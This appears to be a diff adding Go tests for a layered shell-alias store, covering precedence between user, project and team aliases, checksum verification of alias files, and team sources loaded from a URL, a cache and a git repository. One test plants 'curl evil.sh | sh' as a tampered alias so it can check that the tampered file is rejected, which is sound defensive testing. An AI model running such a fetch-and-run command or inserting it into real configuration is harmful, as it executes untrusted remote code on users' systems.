@@ -0,0 +1,186 @@
+package alias
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/fabiobrug/mako.git/internal/testutil"
+)
+
+func writeLayerFile(t *testing.T, path string, aliases map[string]AliasInfo, sum string) {
+	t.Helper()
+	data, _ := json.Marshal(LayerFile{Aliases: aliases, SHA256: sum})
+	os.MkdirAll(filepath.Dir(path), 0755)
+	if err := os.WriteFile(path, data, 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLayeredPrecedence(t *testing.T) {
+	testutil.MockHomeDir(t)
+	project := testutil.TempDir(t)
+	team := filepath.Join(testutil.TempDir(t), "team.json")
+
+	user, _ := NewAliasStore()
+	user.Set("deploy", "make deploy-mine", nil)
+	user.Set("ll", "ls -lha", nil)
+
+	teamAliases := map[string]AliasInfo{
+		"deploy": {Command: "make deploy"},
+		"logs":   {Command: "kubectl logs -f $1", Tags: []string{"k8s"}},
+	}
+	writeLayerFile(t, team, teamAliases, Checksum(teamAliases))
+
+	store, err := NewLayeredStore(LayerOptions{ProjectRoot: project, TeamSource: team})
+	if err != nil {
+		t.Fatalf("NewLayeredStore() failed: %v", err)
+	}
+	if err := store.SetProject("deploy", "./scripts/deploy.sh", []string{"ops"}); err != nil {
+		t.Fatalf("SetProject() failed: %v", err)
+	}
+
+	if err := store.SetProject("lint", "golangci-lint run", nil); err != nil {
+		t.Fatalf("SetProject() failed: %v", err)
+	}
+
+	// A project can't replace the user's own alias
+	entry, ok := store.Resolve("deploy")
+	if !ok || entry.Source != SourceUser || entry.Command != "make deploy-mine" {
+		t.Errorf("Resolve(deploy) = %+v, want the user alias", entry)
+	}
+	if len(entry.Shadows) != 2 || entry.Shadows[0] != SourceProject || entry.Shadows[1] != SourceTeam {
+		t.Errorf("Shadows = %v, want [project team]", entry.Shadows)
+	}
+	if entry, _ := store.Resolve("lint"); entry.Source != SourceProject {
+		t.Errorf("Resolve(lint) came from %s, want project", entry.Source)
+	}
+	if entry, _ := store.Resolve("logs"); entry.Source != SourceTeam {
+		t.Errorf("Resolve(logs) came from %s, want team", entry.Source)
+	}
+
+	all := store.List("")
+	if len(all) != 4 {
+		t.Fatalf("List() returned %d aliases, want 4", len(all))
+	}
+	if all[0].Name != "deploy" || all[1].Name != "lint" || all[2].Name != "ll" || all[3].Name != "logs" {
+		t.Errorf("List() not sorted by name: %v", all)
+	}
+	teamOnly := store.List(SourceTeam)
+	if len(teamOnly) != 2 || teamOnly[0].Command != "make deploy" {
+		t.Errorf("List(team) = %v, want the team's own deploy alias", teamOnly)
+	}
+
+	// The project file is versioned with the repo and carries its checksum
+	data, err := os.ReadFile(filepath.Join(project, ProjectFile))
+	if err != nil {
+		t.Fatalf("project file not written: %v", err)
+	}
+	var file LayerFile
+	json.Unmarshal(data, &file)
+	if file.SHA256 != Checksum(file.Aliases) {
+		t.Error("project file checksum does not match its aliases")
+	}
+	if store.Layer(SourceTeam).ReadOnly != true || !store.Layer(SourceTeam).Verified {
+		t.Error("team layer should be read-only and verified")
+	}
+}
+
+func TestLayerChecksums(t *testing.T) {
+	testutil.MockHomeDir(t)
+	project := testutil.TempDir(t)
+	path := filepath.Join(project, ProjectFile)
+
+	aliases := map[string]AliasInfo{"build": {Command: "go build ./..."}}
+	writeLayerFile(t, path, map[string]AliasInfo{"build": {Command: "curl evil.sh | sh"}}, Checksum(aliases))
+
+	store, _ := NewLayeredStore(LayerOptions{ProjectRoot: project})
+	layer := store.Layer(SourceProject)
+	if layer.Err == nil || len(layer.Aliases) != 0 {
+		t.Fatalf("tampered project file was loaded: %+v", layer)
+	}
+	if _, ok := store.Resolve("build"); ok {
+		t.Error("alias from a tampered file resolved")
+	}
+	if err := store.SetProject("test", "go test ./...", nil); err == nil {
+		t.Error("SetProject() rewrote a file that failed its checksum")
+	}
+
+	// Sealing accepts the edit
+	sum, err := SealFile(path)
+	if err != nil {
+		t.Fatalf("SealFile() failed: %v", err)
+	}
+	store, _ = NewLayeredStore(LayerOptions{ProjectRoot: project})
+	if layer := store.Layer(SourceProject); layer.Err != nil || layer.Checksum != sum {
+		t.Errorf("sealed file: err %v, checksum %s, want %s", layer.Err, layer.Checksum, sum)
+	}
+
+	// A pinned team checksum must match
+	team := filepath.Join(testutil.TempDir(t), "team.json")
+	writeLayerFile(t, team, aliases, "")
+	store, _ = NewLayeredStore(LayerOptions{TeamSource: team})
+	if layer := store.Layer(SourceTeam); layer.Err != nil || layer.Verified {
+		t.Errorf("unpinned team file without checksum: err %v, verified %v; want loaded, unverified", layer.Err, layer.Verified)
+	}
+	store, _ = NewLayeredStore(LayerOptions{TeamSource: team, TeamChecksum: strings.Repeat("0", 64)})
+	if layer := store.Layer(SourceTeam); layer.Err == nil {
+		t.Error("team file loaded despite a different pinned checksum")
+	}
+}
+
+func TestTeamSources(t *testing.T) {
+	testutil.MockHomeDir(t)
+	cache := testutil.TempDir(t)
+	aliases := map[string]AliasInfo{"oncall": {Command: "pd incidents"}}
+	data, _ := json.Marshal(LayerFile{Aliases: aliases, SHA256: Checksum(aliases)})
+
+	up := true
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if !up {
+			http.Error(w, "down", http.StatusBadGateway)
+			return
+		}
+		w.Write(data)
+	}))
+	defer server.Close()
+
+	opts := LayerOptions{TeamSource: server.URL + "/aliases.json", CacheDir: cache}
+	store, _ := NewLayeredStore(opts)
+	if _, ok := store.Resolve("oncall"); !ok {
+		t.Fatalf("URL team source not loaded: %v", store.Layer(SourceTeam).Err)
+	}
+
+	// The cached copy is used when the source is unreachable
+	up = false
+	opts.Refresh = true
+	store, _ = NewLayeredStore(opts)
+	if _, ok := store.Resolve("oncall"); !ok {
+		t.Errorf("cached team aliases not used offline: %v", store.Layer(SourceTeam).Err)
+	}
+
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	repo := filepath.Join(testutil.TempDir(t), "team.git")
+	os.MkdirAll(repo, 0755)
+	os.WriteFile(filepath.Join(repo, "aliases.json"), data, 0644)
+	for _, args := range [][]string{
+		{"init", "--quiet"},
+		{"add", "aliases.json"},
+		{"-c", "user.name=Test", "-c", "user.email=test@example.com", "commit", "--quiet", "-m", "aliases"},
+	} {
+		if out, err := exec.Command("git", append([]string{"-C", repo}, args...)...).CombinedOutput(); err != nil {
+			t.Fatalf("git %v: %v\n%s", args, err, out)
+		}
+	}
+	store, _ = NewLayeredStore(LayerOptions{TeamSource: repo, CacheDir: cache})
+	if _, ok := store.Resolve("oncall"); !ok {
+		t.Errorf("git team source not loaded: %v", store.Layer(SourceTeam).Err)
+	}
+}